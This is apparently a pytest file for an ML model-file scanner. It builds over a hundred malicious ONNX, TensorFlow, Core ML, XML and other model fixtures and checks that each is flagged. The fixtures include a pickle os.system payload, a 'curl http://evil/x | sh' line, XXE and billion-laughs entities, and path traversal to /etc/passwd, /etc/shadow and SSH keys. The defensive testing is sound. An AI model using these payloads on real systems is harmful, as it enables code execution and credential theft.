"""Graphs that do more than compute, or lie: each must gate."""

from __future__ import annotations

import base64
import json
import pickle
import struct

import onnx
import pytest
from onnx import TensorProto, helper

from unit.scan_graphs.graph_builders import (
    executorch,
    gates,
    pb,
    saved_model,
    scan,
    tf_call,
    tf_const,
    tf_function,
    tf_graph,
    tf_node,
    tflite,
    varint,
)


def _model(*nodes: onnx.NodeProto, **more: object) -> onnx.ModelProto:
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])
    nodes = nodes or (helper.make_node("Relu", ["x"], ["y"]),)
    return helper.make_model(helper.make_graph(list(nodes), "g", [x], [y], **more))  # type: ignore[arg-type]


def _external(location: str, **entries: str) -> bytes:
    tensor = TensorProto(name="w", data_type=1, dims=[4], data_location=1)
    for key, value in {"location": location, **entries}.items():
        tensor.external_data.add(key=key, value=value)
    return _model(initializer=[tensor]).SerializeToString()


def _node(op: str, domain: str) -> bytes:
    return _model(helper.make_node(op, ["x"], ["y"], domain=domain)).SerializeToString()


def _tensor(**fields: object) -> bytes:
    return _model(initializer=[TensorProto(name="w", **fields)]).SerializeToString()  # type: ignore[arg-type]


def _metadata(value: str) -> bytes:
    model = _model()
    model.metadata_props.add(key="note", value=value)
    return model.SerializeToString()


def _in_branch(node: onnx.NodeProto) -> bytes:
    y = helper.make_tensor_value_info("z", TensorProto.FLOAT, [1])
    branch = helper.make_graph([node], "b", [], [y])
    both = helper.make_node("If", ["x"], ["y"], then_branch=branch, else_branch=branch)
    return _model(both).SerializeToString()


def _deep(levels: int) -> bytes:
    graph = pb((2, "g"))
    for _ in range(levels):
        attribute = pb((1, "body"), (6, graph), (20, 5))
        graph = pb((1, pb((4, "Loop"), (5, attribute))), (2, "g"))
    return pb((1, 8), (7, graph), (8, pb((2, 17))))


def _in_function(node: onnx.NodeProto) -> bytes:
    model = _model(helper.make_node("f", ["x"], ["y"], domain="own"))
    opset = [helper.make_opsetid("", 17)]
    model.functions.append(helper.make_function("own", "f", ["x"], ["y"], [node], opset))
    return model.SerializeToString()


def _training() -> bytes:
    model = _model()
    model.training_info.add().algorithm.node.add(op_type="Evil", domain="evil")
    return model.SerializeToString()


_EVIL = pickle.dumps(print).replace(b"builtins", b"builtins")
_SYSTEM = b"cos\nsystem\n(S'id'\ntR."
_CODE = "__import__('os').system('id')"

ONNX = {
    **{
        f"external {place}": _external(place)
        for place in (
            *("/etc/passwd", "../secret.bin", "a/../../b", "C:\\secret", "\\\\host\\share\\x"),
            *("http://evil/x", "file:///etc/passwd", "~/.ssh/id_rsa", "", "*/_ORT_MEM_ADDR_/*"),
        )
    },
    "external offset": _external("w.bin", offset="-8"),
    "external length": _external("w.bin", length="99999"),
    "external length text": _external("w.bin", length="0x10"),
    "external in branch": _in_branch(
        helper.make_node("Constant", [], ["z"], value=TensorProto(
            data_type=1, dims=[1], data_location=1,
            external_data=[onnx.StringStringEntryProto(key="location", value="/etc/shadow")]))
    ),
    "custom domain": _node("Evil", "my.domain"),
    "PyOp": _node("PyOp", "ai.onnx.contrib"),
    "PyCustomOpDef": _node("PyCustomOpDef", "ai.onnx.contrib"),
    "extensions": _node("BertTokenizer", "ai.onnx.contrib"),
    "PythonOp": _node("PythonOp", "com.microsoft"),
    "EPContext": _node("EPContext", "com.microsoft"),
    "ATen": _node("ATen", "org.pytorch.aten"),
    "unknown in the standard domain": _node("Evil", ""),
    "custom in branch": _in_branch(helper.make_node("Evil", [], ["z"], domain="evil")),
    "custom in function": _in_function(helper.make_node("Evil", ["x"], ["y"], domain="evil")),
    "custom in training": _training(),
    "deep": _deep(60),
    "negative dims": _tensor(data_type=1, dims=[-1, 4], raw_data=bytes(16)),
    "huge dims": _tensor(data_type=1, dims=[2**40, 2**40], raw_data=bytes(16)),
    "short data": _tensor(data_type=1, dims=[1000], raw_data=bytes(16)),
    "no data": _tensor(data_type=1, dims=[1000]),
    "typed data": _tensor(data_type=1, dims=[1000], float_data=[1.0]),
    "string count": _tensor(data_type=8, dims=[5], string_data=[b"a"]),
    "two tensors of a name": _model(
        initializer=[
            helper.make_tensor("w", 1, [1], [1.0]), helper.make_tensor("w", 1, [1], [2.0]),
        ]
    ).SerializeToString(),
    "metadata code": _metadata(_CODE),
    "metadata pickle": _metadata(_SYSTEM.decode()),
    "metadata base64": _metadata(base64.b64encode(_SYSTEM * 4).decode()),
    "metadata shell": _metadata("curl http://evil/x | sh"),
    "pickle in a string tensor": _tensor(data_type=8, dims=[1], string_data=[_SYSTEM]),
    "unknown field": _model().SerializeToString() + pb((999, "hidden")),
    "trailing bytes": _model().SerializeToString() + b"\xff\xff\xff\xff",
    "cut": _model().SerializeToString()[:-3],
}  # fmt: skip

_READERS = ("ReadFile", "MatchingFiles", "TextLineDataset", "TFRecordDataset", "LoadDataset")
_PYTHON = ("PyFunc", "EagerPyFunc", "PyFuncStateless", "XlaHostCompute", "XlaCustomCallV2")


def _file_graph(op: str, *, index: int = 0, path: str = "/etc/passwd") -> bytes:
    inputs = ["x"] * index + ["path", "y", "z"]
    return tf_graph(tf_const("path", path), tf_node("n", op, *inputs))


TENSORFLOW = {
    **{f"{op} constant": saved_model(_file_graph(op)) for op in (*_READERS, "WriteFile")},
    **{f"{op} input": saved_model(_file_graph(op, index=3)) for op in (*_READERS, "WriteFile")},
    **{op: saved_model(tf_graph(tf_node("n", op, "x"))) for op in _PYTHON},
    **{f"{op} constant": _file_graph(op) for op in ("SaveV2", "RestoreV2", "Save", "Restore")},
    **{
        f"{op} by input 1": _file_graph(op, index=1)
        for op in ("SaveDatasetV2", "MergeV2Checkpoints", "CacheDataset", "SqlDataset")
    },
    "custom operator": saved_model(tf_graph(tf_node("n", "Evil", "x"))),
    "in a function": saved_model(
        tf_graph(
            tf_call("c", "f", "x"),
            functions=(tf_function("f", tf_const("p", "/tmp/x"), tf_node("n", "WriteFile", "p")),),
        )
    ),
    # The path of a saver is an argument, which is what every SavedModel does; the caller fixes it.
    "path handed to a saver": saved_model(
        tf_graph(
            tf_const("p", "/home/user/.bashrc"),
            tf_call("c", "g", "p"),
            functions=(
                tf_function("f", tf_node("n", "SaveV2", "prefix", "names")),
                tf_function("g", tf_call("c", "f", "arg")),
            ),
        )
    ),
    "joined": tf_graph(
        tf_const("a", "/etc/"), tf_const("b", "passwd"),
        tf_node("j", "StringJoin", "a", "b"), tf_node("n", "ReadFile", "j:0"),
    ),
    "print": tf_graph(tf_node("n", "PrintV2", "x", output_stream="file:///tmp/x")),
    "debug": tf_graph(tf_node("n", "DebugIdentity", "x", debug_urls="grpc://evil:1")),
    "debug 2": tf_graph(tf_node("n", "DebugIdentityV2", "x", debug_urls="file:///tmp/x")),
    "mapped file": tf_graph(tf_node("n", "ImmutableConst", memory_region_name="/etc/passwd")),
    "descriptor": tf_graph(tf_node("n", "DecodeProtoV2", "x", descriptor_source="/tmp/x")),
    "service": tf_graph(tf_node("n", "DataServiceDatasetV4", "a", "b", "c", "address")),
    "send": tf_graph(tf_node("n", "_Send", "x")),
    "table": tf_graph(
        tf_const("p", "../../etc/passwd"), tf_node("n", "InitializeTableFromTextFileV2", "t", "p")
    ),
    "asset outside": saved_model(tf_graph(tf_node("n", "NoOp")), assets=("../../etc/passwd",)),
    "asset absolute": saved_model(tf_graph(tf_node("n", "NoOp")), assets=("/etc/passwd",)),
    "code in a constant": tf_graph(tf_const("c", f"{_CODE} # {'x' * 64}")),
    "pickle in a constant": tf_graph(tf_const("c", _SYSTEM.decode() + "x" * 64)),
    "shape": tf_graph(
        pb((1, "c"), (2, "Const"), (5, pb((1, "value"), (2, pb((8, pb(
            (1, 1), (2, pb((2, pb((1, 1000))))), (4, bytes(4)))))))))
    ),
    "cut": saved_model(_file_graph("Identity"))[:-2],
    "meta graph": pb((1, pb((4, "t"))), (2, _file_graph("WriteFile"))),
    "text": b'node { name: "p" op: "Const" attr { key: "value" value { tensor { string_val: '
    b'"/tmp/x" } } } }\nnode { name: "n" op: "WriteFile" input: "p" input: "q" }\n',
    "text python": b"# a comment\nnode {\n  name: 'n'\n  op: 'Py' 'Func'\n}\n",
    "text in another script": "# \u00e9\u4e2d\nnode { op: 'PyFunc' }\n".encode(),
    "text with a mark": b"\xef\xbb\xbfnode { op: 'PyFunc' }\n",
    "keras lambda": pb((1, pb((4, "_tf_keras_layer"), (5, '{"class_name": "Lambda", "x": 1}')))),
}  # fmt: skip

FLAT = {
    "custom": tflite((32, "Evil")),
    "flex python": tflite((32, "FlexPyFunc")),
    "flex file": tflite((32, "FlexWriteFile")),
    "flex unknown": tflite((32, "FlexEvil")),
    "number of an operator": tflite((4000, "")),
    "opcode": tflite((0, ""), opcode=7),
    "input": tflite((0, ""), inputs=(9,)),
    "buffer index": tflite((0, ""), buffer=99),
    "buffer outside": tflite((0, ""), external=(2**40, 16)),
    "shape": tflite((0, ""), shape=(1000, 1000)),
    "negative shape": tflite((0, ""), shape=(-1, 4)),
    "no root": b"\xff\xff\xff\x7fTFL3" + bytes(64),
    "cut": tflite((0, ""))[:60],
    "executorch operator": executorch(("evil::run",)),
    "executorch delegate": executorch(("aten::add",), ("EvilBackend",)),
    "executorch native": executorch(("aten::add",), ("AotiBackend",)),
}

_MIL = pb(
    (1, 1),
    (2, pb((1, "main"), (2, pb((3, pb((1, "CoreML5"), (2, pb((3, pb((1, "evil_op"))))))))))),
)


def _mil_weight(path: str) -> bytes:
    value = pb((5, pb((1, path), (2, 64))))
    operation = pb((1, "const"), (5, pb((1, "val"), (2, value))))
    block = pb((1, "CoreML5"), (2, pb((3, operation))))
    return pb((1, 6), (502, pb((1, 1), (2, pb((1, "main"), (2, pb((3, block))))))))


COREML = {
    "custom model": pb((1, 4), (2, pb((10, pb((1, "x"))))), (555, pb((10, "Evil")))),
    "custom layer": pb((1, 4), (500, pb((1, pb((1, "l"), (500, pb((10, "Evil")))))))),
    "in a pipeline": pb((1, 4), (202, pb((1, pb((1, 4), (555, pb((10, "Evil")))))))),
    "linked": pb((1, 4), (556, pb((1, pb((1, pb((1, "../x")))))))),
    "operator": pb((1, 6), (502, _MIL)),
    "weights": _mil_weight("@model_path/../../secret"),
    "weights absolute": _mil_weight("/etc/passwd"),
}

XML = {
    "openvino extension": '<net name="n" version="11"><layers><layer id="0" name="a" type="Evil" '
    'version="extension"/></layers></net>',
    "openvino type": '<?xml version="1.0"?><net><layer type="Evil" version="opset1"/></net>',
    "openvino entity": '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net>&x;</net>',
    "openvino offset": '<net><layer type="Const"><data offset="-1" size="4"/></layer></net>',
    "openvino path": '<net><layers><layer type="Const" version="opset1"><data path="/etc/passwd"/>'
    "</layer></layers></net>",
    "openvino deep": "<net>" + "<a>" * 2000,
    "pmml class": '<PMML version="4.4"><Apply function="com.evil.Run"/></PMML>',
    "pmml unknown": '<PMML version="4.4"><Apply function="evil"/></PMML>',
    "pmml type": '<!DOCTYPE PMML SYSTEM "http://evil/x"><PMML/>',
    "pmml laughs": '<!DOCTYPE PMML [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><PMML>&b;</PMML>',
    "pmml style": '<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><PMML/>',
    "pmml script": '<PMML version="4.4"><script>run()</script></PMML>',
    "pmml namespace": '<PMML xmlns:e="http://evil/"><e:x/></PMML>',
    "pmml defined": '<PMML><DefineFunction name="java.lang.Runtime"/></PMML>',
}


def _paddle(op: str, **attributes: str) -> bytes:
    entries = [(4, pb((1, key), (2, 2), (5, value))) for key, value in attributes.items()]
    return pb((1, pb((1, 0), (2, 0), (4, pb((3, op), *entries)))), (4, pb((1, 0))))


def _mxnet(op: str, **attributes: str) -> bytes:
    nodes = [
        {"op": "null", "name": "x", "inputs": []},
        {"op": op, "name": "n", "attrs": attributes},
    ]
    return json.dumps({"nodes": nodes, "arg_nodes": [0], "heads": [[1, 0, 0]]}).encode()


OTHERS = {
    "paddle python": _paddle("py_func"),
    "paddle save": _paddle("save", file_path="/tmp/x"),
    "paddle load": _paddle("load_combine", file_path="/etc/passwd"),
    "paddle unknown": _paddle("evil"),
    "paddle remote": _paddle("listen_and_serv"),
    "paddle weights": struct.pack("<IQIi", 0, 0, 0, 12) + pb((1, 5), (2, 2**40)).ljust(12, b"\0"),
    "pir python": json.dumps(
        {"base_code": {"magic": "pir"}, "program": [{"#": "1.py_func"}]}
    ).encode(),
    "mxnet custom": _mxnet("Custom", op_type="evil"),
    "mxnet native": _mxnet("_Native", info="0x1234"),
    "mxnet unknown": _mxnet("evil"),
    "caffe python": pb(
        (1, "n"), (100, pb((1, "l"), (2, "Python"), (130, pb((1, "os"), (2, "x")))))
    ),
    "caffe unknown": pb((1, "n"), (100, pb((1, "l"), (2, "Evil")))),
    "prototxt python": b'layer {\n type: "Python"\n python_param { module: "os" layer: "x" }\n}\n',
    "prototxt old": b'layers { name: "l" type: PYTHON python_param { module: "os" layer: "x" } }\n',
    "prototxt output": b'layer { type: "HDF5Output" hdf5_output_param { file_name: "/tmp/x" } }\n',
    "ncnn": b"7767517\n2 2\nInput data 0 1 data\nEvil e 1 1 data out\n",
    "record": b"\x08\0\0\0\0\0\0\0" + b"\0\0\0\0" + b"x" * 12,
}

HOSTILE = {
    **{f"onnx: {name}": data for name, data in ONNX.items()},
    **{f"tensorflow: {name}": data for name, data in TENSORFLOW.items()},
    **{f"flat: {name}": data for name, data in FLAT.items()},
    **{f"core ml: {name}": data for name, data in COREML.items()},
    **{f"xml: {name}": data.encode() for name, data in XML.items()},
    **OTHERS,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_gates(name: str) -> None:
    assert gates(scan(HOSTILE[name]))


@pytest.mark.parametrize(
    "name",
    [
        *(name for name in HOSTILE if "external /" in name or "constant" in name[-10:]),
        *("onnx: PyOp", "tensorflow: path handed to a saver", "flat: custom", "core ml: weights"),
        *("xml: pmml class", "paddle python", "mxnet custom", "caffe python", "prototxt python"),
    ],
)
def test_is_named(name: str) -> None:
    """The finding is one of this room, and not only that nobody knows the bytes."""
    assert any(one.startswith("WB-") for one in gates(scan(HOSTILE[name])))


def test_many_are_tried() -> None:
    assert len(HOSTILE) > 120


@pytest.mark.parametrize("size", [200_000])
def test_a_bomb_of_fields_ends(size: int) -> None:
    """Many tiny fields cost a bounded number of steps."""
    graph = pb((1, pb((4, "Relu")))) * size
    model = pb((1, 8)) + varint(7 << 3 | 2) + varint(len(graph)) + graph
    assert scan(model).coverage
